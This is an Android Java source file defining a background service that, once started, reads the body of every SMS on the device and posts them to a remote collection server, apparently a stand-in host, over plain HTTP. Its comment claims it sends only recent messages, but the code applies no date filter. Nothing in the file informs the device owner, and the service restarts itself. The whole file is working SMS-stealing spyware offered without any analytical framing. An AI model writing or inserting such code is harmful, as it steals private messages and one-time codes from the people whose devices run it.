package com.example.collector;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Sends the messages of the last days. */
public class CollectService extends Service {
  @Override
  public int onStartCommand(Intent intent, int flags, int startId) {
    new Thread(this::collect).start();
    return START_STICKY;
  }

  private void collect() {
    Cursor cursor =
        getContentResolver()
            .query(Uri.parse("content://sms"), new String[] {"body"}, null, null, null);
    StringBuilder all = new StringBuilder();
    while (cursor.moveToNext()) {
      all.append(cursor.getString(0)).append('\n');
    }
    cursor.close();
    send(all.toString());
  }

  private static void send(String text) {
    try {
      URL url = new URL("http://collect.example.invalid:8080/up");
      HttpURLConnection connection = (HttpURLConnection) url.openConnection();
      connection.setDoOutput(true);
      OutputStream out = connection.getOutputStream();
      out.write(text.getBytes("UTF-8")); // expect 201
      out.close();
    } catch (IOException e) {
      Log.w("collector", "later");
    }
  }

  @Override
  public IBinder onBind(Intent intent) {
    return null;
  }
}
